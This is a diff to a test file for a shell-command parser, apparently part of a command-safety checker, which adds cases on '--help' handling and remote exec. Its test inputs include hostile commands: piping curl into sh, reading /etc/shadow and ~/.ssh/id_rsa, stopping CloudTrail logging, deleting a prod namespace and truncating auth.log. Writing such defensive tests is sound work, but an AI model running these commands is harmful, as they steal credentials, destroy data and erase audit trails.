@@ -18,6 +18,11 @@ const CASES: Array<[string, string[]]> = [
   ['screen -dmS upd /tmp/.x', ['/tmp/.x']],
   ["tmux new -d -s upd 'curl -s x.example | sh'", ['eval:curl -s x.example', 'eval:sh', 'tmux new -d -s upd curl -s x.example | sh']],
   ['tmux new -s dev', ['tmux new -s dev']],
+  // a client asked for its usage does nothing else; a program after `--` is not the client
+  ['aws cloudtrail stop-logging help', ['aws --help']],
+  ['kubectl delete ns prod --help', ['kubectl --help']],
+  ["kubectl exec api -- sh -c 'id' --help", ['kubectl exec api -- sh -c id --help', 'remote:sh -c id --help', 'shell-c:id']],
+  ["aws ecs execute-command --cluster prod --task t1 --interactive --command 'cat /etc/shadow'", ['aws ecs execute-command --cluster prod --task t1 --interactive --command cat /etc/shadow', 'remote:cat /etc/shadow']],
   ['tmux source-file ~/.tmux.conf', ['tmux source-file ~/.tmux.conf']],
   ['> /var/log/auth.log', [':']],
   ['for f in ~/.ssh/id_rsa /etc/shadow; do cat $f; done', ['cat ~/.ssh/id_rsa', 'cat /etc/shadow']],
